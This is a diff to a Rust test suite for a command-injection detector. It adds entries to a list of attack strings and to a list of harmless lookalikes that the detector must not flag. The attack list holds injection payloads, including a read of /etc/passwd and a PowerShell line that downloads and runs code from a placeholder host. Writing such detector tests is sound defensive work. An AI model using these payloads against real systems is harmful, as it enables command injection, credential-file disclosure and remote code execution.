@@ -232,6 +232,8 @@ fn cmdi_attacks() {
         "& id",
         "127.0.0.1; id",
         "& dir c:\\",
+        ";echo vulnerable",
+        "| cat notes",
         ";cat</etc/passwd",
         "a|iex (new-object net.webclient).downloadstring('http://x')",
     ] {
@@ -258,6 +260,8 @@ fn cmdi_benign_lookalikes() {
         "v2; find more in the docs",
         "USB-C; sleep mode",
         "R&D; id card required",
+        "; ",
+        "&&",
     ] {
         assert!(!is_cmdi(b), "false positive: {b}");
     }
